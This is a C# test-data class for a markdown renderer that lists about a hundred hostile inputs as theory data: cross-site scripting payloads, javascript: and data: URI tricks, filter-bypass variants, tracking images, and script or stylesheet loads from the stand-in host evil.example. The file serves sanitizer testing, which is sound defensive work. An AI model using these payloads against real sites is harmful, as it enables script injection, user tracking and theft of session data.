namespace Governance.Web.Tests.Markdown;

/// <summary>A hundred ways in which a proposal's text may try to act, and the one allowed result: text.</summary>
public static class HostilePayloads
{
    private static readonly string[] Html =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=\"javascript:alert(1)\"></object>", "<embed src=\"javascript:alert(1)\">",
        "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
        "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<form action=\"javascript:alert(1)\"><button>x</button></form>", "<button formaction=\"javascript:alert(1)\">x</button>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">", "<link rel=stylesheet href=http://evil.example/x.css>",
        "<style>@import 'http://evil.example/x.css';</style>", "<style>*{background:url(http://evil.example/x)}</style>", "<div style=\"background:url(http://evil.example/x)\">", "<base href=\"http://evil.example/\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<isindex action=javascript:alert(1) type=image>", "<table background=\"javascript:alert(1)\">",
        "<x onclick=alert(1)>click</x>", "<p onmouseover=alert(1)>x</p>", "<script\n>alert(1)</script\n>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>", "<img src=\"x` `<script>alert(1)</script>\"` `>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo '<script>alert(1)</script>' ?>", "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;", "</p><script>alert(1)</script>", "</div></div><script>alert(1)</script>",
    ];

    private static readonly string[] Links =
    [
        "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&colon;alert(1))", "[x](&#x6A;avascript:alert(1))", "[x](&#106;&#97;&#118;&#97;script:alert(1))", "[x](java\\script:alert(1))", "[x](<java\tscript:alert(1)>)",
        "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](<\u0001javascript:alert(1)>)", "[x](%6aavascript:alert(1))", "[x](javascript://example.com/%0aalert(1))", "[x](vbscript:msgbox(1))", "[x](data:text/html,<script>alert(1)</script>)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "[x](file:///etc/passwd)", "[x](blob:http://evil.example/x)", "[x](filesystem:http://evil.example/x)", "[x](view-source:javascript:alert(1))", "[x](//evil.example)", "[x](\\\\evil.example)", "[x](/\\evil.example)",
        "[x](http://evil.example \"onmouseover=alert(1)\")", "[x](http://evil.example \"\\\" onmouseover=\\\"alert(1)\")", "[x](http://evil.example/\"onmouseover=\"alert(1))", "[x](<http://evil.example/\" onmouseover=\"alert(1)>)", "[x]('javascript:alert(1)')", "[x][1]\n\n[1]: javascript:alert(1)", "[x][1]\n\n[1]: data:text/html,<script>alert(1)</script>",
        "[1]\n\n[1]: javascript:alert(1) \"x\"", "<javascript:alert(1)>", "<data:text/html,hello>", "<vbscript:msgbox>", "<http://evil.example/\"onclick=alert(1)>", "<x@evil.example>", "[x](mailto:a@evil.example)", "[x](tel:+1234)", "[x](ws://evil.example)", "[x](intent://evil#Intent;scheme=http;end)",
    ];

    private static readonly string[] Pictures =
    [
        "![x](http://evil.example/track.png)", "![x](https://evil.example/track.svg)", "![x](javascript:alert(1))", "![x](data:image/svg+xml,<svg onload=alert(1)>)", "![x][1]\n\n[1]: http://evil.example/track.png", "![<script>alert(1)</script>](http://evil.example/x.png)",
        "![\"onerror=alert(1)](http://evil.example/x.png)", "![x](http://evil.example/x.png\"onerror=\"alert(1))", "[![x](http://evil.example/x.png)](javascript:alert(1))", "![x](http://evil.example/x.png 'a\" onerror=\"alert(1)')",
    ];

    private static readonly string[] Structures =
    [
        "```<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```", "``` \"onmouseover=\"alert(1)\nx\n```", "`<script>alert(1)</script>`", "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | x |",
        "# <script>alert(1)</script>", "> <img src=x onerror=alert(1)>", "- <svg onload=alert(1)>", "~~<script>alert(1)</script>~~", "http://evil.example/<script>alert(1)</script>", "www.evil.example/\"onclick=\"alert(1)",
    ];

    public static TheoryData<string> All => [.. Html, .. Links, .. Pictures, .. Structures];
}
